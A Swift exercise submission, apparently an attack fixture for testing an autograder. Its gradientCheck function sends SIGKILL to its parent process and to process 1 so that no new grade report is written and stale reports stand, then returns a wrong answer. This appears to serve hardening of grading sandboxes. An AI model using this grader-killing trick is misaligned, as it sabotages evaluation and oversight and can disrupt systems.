// Attack: kill the grader, so that it writes no report and the previous run's reports stand in for this
// one. Each call sends SIGKILL to its parent process and to process 1 (of its view), then answers wrong.
// (Not kill(-1): outside a sandbox, as root, that would end every process of the machine.)
import Assignments
#if canImport(Glibc)
import Glibc
#endif

struct StudentGradientCheck: GradientCheckExercise {
    func gradientCheck(x: Double, theta: Double, epsilon: Double) -> Double {
        let parent = getppid()
        let parentKilled = kill(parent, SIGKILL) == 0 ? "sent" : String(cString: strerror(errno))
        let initKilled = kill(1, SIGKILL) == 0 ? "sent" : String(cString: strerror(errno))
        print("attack ran: kill-grader (SIGKILL to parent \(parent): \(parentKilled); to process 1: \(initKilled))")
        return 0.5  // not the answer
    }
}
